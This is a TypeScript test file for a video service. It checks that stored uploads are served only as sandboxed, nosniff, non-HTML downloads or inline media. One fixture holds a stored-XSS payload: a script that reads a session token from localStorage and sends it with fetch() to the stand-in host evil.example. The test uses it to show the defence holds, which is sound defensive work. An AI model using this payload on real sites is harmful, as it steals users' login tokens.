import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signUp, startTestServer, type TestServer } from '../helpers/server.ts';
import { makeGood } from '../media/fixtures.ts';
import { uploadedVideo, waitForAnalysis, waitForStatus } from '../processing/helpers.ts';
import { fakeMp4 } from '../uploads/helpers.ts';

/**
 * Stored bytes are never a page of this origin. The attack: an original whose first tus request
 * was cut off after the sniff window (so no type was ever recorded), declared `text/html` by the
 * client, and holding a script after an MP4-looking head. Opened as /api/videos/:id/original
 * from a link, it must not run: it is a download, of a type no browser renders, with nosniff
 * and a sandboxing CSP. Whatever the database holds for its type.
 */
let server: TestServer;
let dir: string;
beforeAll(async () => {
  server = await startTestServer({ FFMPEG_THREADS: '1' });
  dir = await mkdtemp(path.join(os.tmpdir(), 'clipdock-stored-'));
});
afterAll(async () => {
  await server?.stop();
  if (dir) await rm(dir, { recursive: true, force: true });
});

const db = () => server.node.ctx.db;

function expectNeverAPage(res: Response, disposition: 'inline' | 'attachment') {
  expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  expect(res.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
  expect(res.headers.get('content-type')).not.toMatch(/html|xml|javascript|svg|text\//i);
  expect(res.headers.get('content-disposition')?.split(';')[0]).toBe(disposition);
}

describe('stored bytes are never a page', () => {
  it('serves a cut-off-then-HTML original declared text/html as an opaque download', async () => {
    const user = await signUp(server.url);
    const html =
      '<html><body><script>fetch("https://evil.example/?t="+localStorage.getItem("clipdock.token"))</script></body></html>';
    const file = path.join(dir, 'clip.mp4');
    await writeFile(file, Buffer.concat([fakeMp4(8192), Buffer.from(html.repeat(20))]));
    const videoId = await uploadedVideo(server, user.user.id, file, { enqueue: false });
    // What the cut-off first request left: the client's declared type, and no detected one.
    await db()
      .updateTable('videos')
      .set({ declared_type: 'text/html', mime_type: null })
      .where('id', '=', videoId)
      .execute();

    const get = await user.api(`/api/videos/${videoId}/original`);
    expect(get.status).toBe(200);
    expect(get.headers.get('content-type')).toBe('application/octet-stream');
    expectNeverAPage(get, 'attachment');
    expect(get.headers.get('content-disposition')).toContain("filename*=UTF-8''clip.mp4");
    expect((await get.text()).includes('<script>')).toBe(true);

    // A media-element style signed link, a Range request and a HEAD carry the same headers.
    const detail = (await (await user.api(`/api/videos/${videoId}`)).json()) as { originalUrl: string };
    const bySignedUrl = await fetch(new URL(detail.originalUrl, server.url));
    expect(bySignedUrl.status).toBe(200);
    expectNeverAPage(bySignedUrl, 'attachment');
    await bySignedUrl.arrayBuffer();
    const ranged = await user.api(`/api/videos/${videoId}/original`, { headers: { range: 'bytes=8192-' } });
    expect(ranged.status).toBe(206);
    expectNeverAPage(ranged, 'attachment');
    await ranged.arrayBuffer();
    const head = await user.api(`/api/videos/${videoId}/original`, { method: 'HEAD' });
    expectNeverAPage(head, 'attachment');

    // Whatever the database says the type is, only a passive media type is ever served.
    for (const [recorded, served] of [
      ['text/html', 'application/octet-stream'],
      ['image/svg+xml', 'application/octet-stream'],
      ['video/mp4', 'video/mp4'],
    ] as const) {
      await db().updateTable('videos').set({ mime_type: recorded }).where('id', '=', videoId).execute();
      const res = await user.api(`/api/videos/${videoId}/original`);
      expect(res.headers.get('content-type')).toBe(served);
      expectNeverAPage(res, 'attachment');
      await res.arrayBuffer();
    }
  });

  it('serves outputs with their own type, inline, with nosniff and a sandboxing CSP', {
    timeout: 120_000,
  }, async () => {
    const user = await signUp(server.url);
    const videoId = await uploadedVideo(server, user.user.id, await makeGood('no_audio', dir));
    expect((await waitForStatus(db(), videoId, ['ready', 'failed'])).status).toBe('ready');
    // The storyboard comes with the enrichment that follows `ready`.
    expect((await waitForAnalysis(db(), videoId)).enrichment_status).toBe('ready');
    for (const [name, type] of [
      ['video.mp4', 'video/mp4'],
      ['poster.jpg', 'image/jpeg'],
      ['storyboard.jpg', 'image/jpeg'],
      ['storyboard.json', 'application/json'],
      ['thumb-0.jpg', 'image/jpeg'],
    ] as const) {
      const res = await user.api(`/api/videos/${videoId}/outputs/${name}`);
      expect(res.status, name).toBe(200);
      expect(res.headers.get('content-type'), name).toBe(type);
      expectNeverAPage(res, 'inline');
      await res.arrayBuffer();
    }
    // An error about stored bytes is still JSON.
    const missing = await user.api(`/api/videos/${videoId}/outputs/transcript.json`);
    expect(missing.status).toBe(404);
    expect(missing.headers.get('content-type')).toMatch(/^application\/json/);
  });
});
